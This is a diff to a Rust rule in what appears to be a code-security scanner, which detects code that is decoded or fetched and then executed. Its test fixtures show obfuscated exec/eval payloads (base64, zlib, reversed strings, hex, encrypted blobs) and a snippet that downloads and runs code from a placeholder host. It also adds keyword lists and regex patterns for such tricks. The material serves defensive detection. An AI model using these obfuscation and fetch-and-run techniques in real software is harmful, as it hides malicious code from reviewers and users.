@@ -2,8 +2,12 @@
 
 use std::sync::LazyLock;
 
+use regex::Regex;
+
 use super::source_calls::{evaluates, runs_shell, source_files, weighed};
-use crate::evidence::source::{Argument, Call};
+use crate::evidence::document::Document;
+use crate::evidence::source::{Argument, Call, Origins};
+use crate::evidence::zones::ZoneKind;
 use crate::fact::{Confidence, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
@@ -14,7 +18,7 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-decode-then-execute"
-version = 1
+version = 2
 title = "Hidden code is decoded and run"
 why = "Honest programs ship their code readable. Code that is packed into a string is packed to pass a reviewer."
 fix = "Ship the code as files."
@@ -45,6 +49,56 @@ note = "base64 into a shell."
 import os, base64
 os.system(base64.b64decode("bHMgLWw=").decode())
 '''
+[[examples.fires]]
+note = "Reversed, packed and run through a lambda."
+[examples.fires.files]
+"x.py" = '''
+_ = lambda text: __import__("zlib").decompress(__import__("base64").b64decode(text[::-1]))
+exec((_)(b"PAAAAAAA"))
+'''
+[[examples.fires]]
+note = "Numbers into text into code, and decrypted code."
+[examples.fires.files]
+"x.py" = '''
+from cryptography.fernet import Fernet
+exec("".join(chr(n) for n in [112, 97, 115, 115]))
+exec(Fernet(KEY).decrypt(BLOB))
+'''
+[[examples.fires]]
+note = "Hexadecimal by way of a function and another name for eval."
+[examples.fires.files]
+"a.js" = '''
+const run = eval;
+function open(text) { return Buffer.from(text, "hex").toString(); }
+run(open("636f6e736f6c65"));'''
+[[examples.fires]]
+note = "A literal that is turned round."
+[examples.fires.files]
+"a.js" = 'eval(")1(gol.elosnoc".split("").reverse().join(""));'
+[[examples.fires]]
+note = "A program in a literal that fetches another."
+[examples.fires.files]
+"x.py" = """
+import tempfile, subprocess
+f = tempfile.NamedTemporaryFile(delete=False)
+f.write(b'from urllib.request import urlopen;exec(urlopen("https://files.test/a").read())')
+f.close()
+subprocess.Popen(["python", f.name])
+"""
+[[examples.silent]]
+note = "A word that a scanner looks for."
+[examples.silent.files]
+"x.py" = 'import subprocess\nBAD = ["exec(base64.b64decode(", "eval(zlib.decompress("]\n'
+[[examples.silent]]
+note = "A list that is turned round."
+[examples.silent.files]
+"x.py" = '''
+def value(items, names):
+    total = 0
+    for item in items[::-1]:
+        total += eval(item, {}, names)
+    return total
+'''
 [[examples.silent]]
 note = "Decoded data."
 [examples.silent.files]
@@ -61,6 +115,11 @@ impl Rule for SourceDecodeThenExecute {
 
     fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
         for file in source_files(subject) {
+            if let Some((document, at)) = subject.evidence.documents.get(file.path).and_then(packed_program) {
+                let (severity, confidence) = weighed(&file, Severity::High, Confidence::Medium);
+                let evidence = document.text.get(at..).unwrap_or_default();
+                facts.found_as(severity, confidence, document.place(at), evidence);
+            }
             for call in file.view.calls.iter().filter(|call| evaluates(call) || runs_shell(call)) {
                 if decodes(call) {
                     let (severity, confidence) = weighed(&file, Severity::Critical, Confidence::High);
@@ -71,6 +130,26 @@ impl Rule for SourceDecodeThenExecute {
     }
 }
 
+/// A program inside a literal that decodes or fetches a further one and runs it: it is written to a file or handed to
+/// an interpreter. A pattern that looks for such programs imports nothing.
+fn packed_program(document: &Document) -> Option<(&Document, usize)> {
+    static PACKED: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?-u)\b(?:exec|eval)\(\s{0,4}(?:compile\(\s{0,4})?(?:[A-Za-z_]\w{0,30}(?:\((?u:[^()\n]){0,40}\))?\.){0,3}\w{0,20}(?:urlopen|b64decode|decompress|unhexlify|requests\.get)\w{0,20}\(")
+            .expect("the pattern is fixed and valid")
+    });
+    let hits = PACKED.find_iter(&document.text).take(20).map(|hit| hit.start());
+    let mut in_literals = hits.filter(|at| document.zone_at(*at) == ZoneKind::Literal);
+    in_literals.find(|at| imports_before(document, *at)).map(|at| (document, at))
+}
+
+/// Whether a module is imported within a literal just before a place.
+fn imports_before(document: &Document, at: usize) -> bool {
+    let text = document.text.as_str();
+    let from = (at.saturating_sub(300)..at).find(|from| text.is_char_boundary(*from)).unwrap_or(at);
+    let import = text.get(from..at).and_then(|before| before.rfind("import "));
+    import.is_some_and(|import| document.zone_at(from + import) == ZoneKind::Literal)
+}
+
 /// Whether what is run comes from a decoder, directly or through a constant.
 fn decodes(call: &Call) -> bool {
     let from_decoder = call.arguments.iter().any(|argument| match argument {
@@ -78,9 +157,16 @@ fn decodes(call: &Call) -> bool {
         _ => false,
     });
     from_decoder
+        || (call.flows.first.any(Origins::DECODED) && !is_calculation(call))
+        || (call.callee.contains("Function") && call.flows.rest.any(Origins::DECODED))
         || ["atob(", "b64decode(", "'base64')", "\"base64\")", "marshal.loads(", "fromhex("]
             .iter()
             .any(|token| opens_with(&call.text, token))
+}
+
+/// `eval(text, {}, names)`: an expression with names of its own, which is how formulas are calculated.
+fn is_calculation(call: &Call) -> bool {
+    call.callee == "eval" && call.arguments.len() > 1
 }
 
 fn is_decoder(callee: &str, text: &str) -> bool {
